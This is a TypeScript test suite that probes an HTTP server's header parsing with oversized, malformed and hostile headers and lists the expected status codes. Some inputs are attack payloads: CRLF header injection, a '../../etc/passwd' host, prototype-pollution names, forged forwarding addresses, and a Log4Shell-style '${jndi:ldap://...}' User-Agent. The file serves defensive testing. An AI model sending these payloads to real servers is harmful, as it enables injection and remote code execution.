import { type Case, type Expected, type Group, probe } from '../case.ts';
import { bytesOf, MARK } from '../requests.ts';

/** A header line as it is. */
function line(name: string, text: string, expected: Expected, kept?: Parameters<typeof probe>[3]): Case {
  return probe(name, { lines: [text] }, expected, kept);
}

const fill = (bytes: number) => ({ 'x-fill': 'x'.repeat(bytes) });
const many = (count: number) => Array.from({ length: count }, (_, at) => `${at.toString(36)}:`);

export const headers: Group = {
  name: 'headers',
  cases: [
    probe('of 15 KiB', { headers: fill(15 * 1024) }, 202),
    probe('of 16.5 KiB', { headers: fill(16.5 * 1024) }, 431),
    probe('of 64 KiB', { headers: fill(64 * 1024) }, 431),
    probe('of 1 MiB', { headers: fill(2 ** 20) }, 431),
    probe('of 8 MiB, on and on', { headers: fill(2 ** 23) }, 431),
    probe('1000 short ones', { lines: many(1000) }, 202),
    probe('2500 short ones', { lines: many(2500) }, [202, 431]),
    probe('the one of a browser behind 2500 others', { lines: [...many(2500), 'Origin: null'] }, [403, 431]),
    probe(
      'the one of an encoding behind 2500 others',
      { lines: [...many(2500), 'Content-Encoding: gzip'] },
      [415, 431],
    ),
    probe('100,000', { lines: many(100_000) }, 431),
    probe('one of 500 lines', { lines: Array.from({ length: 500 }, () => 'X-Same: y') }, 202),
    line('a blank in a name', 'X Y: z', 400),
    line('no name', ': z', 400),
    line('no colon', 'garbage', 400),
    line('brackets in a name', '(x): y', 400),
    line('NUL in a name', 'X\0Y: z', 400),
    line('an escape in a name', 'X\x1b[2J: z', 400),
    line('letters beyond ASCII in a name', 'X\u00e4: z', 400),
    line('a blank before the colon', 'X-Y : z', 400),
    line('a tab before the colon', 'X-Y\t: z', 400),
    line('a line that goes on', 'X-Y: z\r\n  more', [202, 400]),
    line('the first line goes on', ' X-Y: z', [202, 400]),
    line('a carriage return in a value', 'X-Y: a\rX-Tempo-Token: b', 400),
    line('a line feed alone', 'X-Y: a\nX-Z: b', [202, 400]),
    line('NUL in a value', 'X-Y: a\0b', 400),
    line('an escape in a value', 'X-Y: \x1b]0;pwned\x07', [202, 400]),
    line('bytes beyond ASCII in a value', 'X-Y: \u00e4\u{1f600}', 202),
    line(
      'named as what objects have',
      '__proto__: x\r\nconstructor: y\r\ntoString: z\r\nhasOwnProperty: q',
      202,
    ),
    line('the same under another name', 'Content_Length: 9999', 202),
    line('the host twice', 'Host: other', [202, 400]),
    probe('no host', { headers: { host: undefined } }, 400),
    probe('an empty host', { headers: { host: '' } }, [202, 400]),
    probe('a host that is none', { headers: { host: 'a b/c?d#e@f' } }, [202, 400]),
    probe('a host with a path to a file', { headers: { host: '../../etc/passwd' } }, [202, 400]),
    probe(
      'who it is for, forged',
      {
        headers: {
          'x-forwarded-for': '203.0.113.9',
          forwarded: 'for=203.0.113.9',
          'x-real-ip': '203.0.113.9',
        },
      },
      202,
      {
        from: '127.99.0.1',
        kept: ({ metadata }) => metadata.senderAddress === '127.99.0.1',
      },
    ),
    probe(
      'a range',
      { method: 'GET', target: '/health', headers: { range: 'bytes=0-1,3-4,5-99999999' } },
      200,
    ),
    probe(
      'conditions',
      {
        method: 'GET',
        target: '/health',
        headers: { 'if-none-match': '*', 'if-modified-since': 'Fri, 01 Jan 2100 00:00:00 GMT' },
      },
      200,
    ),
    probe('a connection that names the token', { headers: { connection: 'close, X-Tempo-Token' } }, 202),
    probe(
      'as much to be kept open as there is',
      { headers: { connection: 'keep-alive', 'keep-alive': 'timeout=999999, max=999999' } },
      202,
    ),
    probe('a name for itself', { headers: { 'user-agent': `\${jndi:ldap://x/${MARK}}` } }, 202),
    probe(
      'ends with line feeds alone',
      (arena) => bytesOf({ method: 'GET', target: '/health' }, arena).toString().replaceAll('\r\n', '\n'),
      [200, 400, 'closed'],
      { half: true },
    ),
    probe(
      'ends with carriage returns alone',
      (arena) => bytesOf({ method: 'GET', target: '/health' }, arena).toString().replaceAll('\r\n', '\r'),
      [400, 'closed'],
      { half: true },
    ),
  ],
};
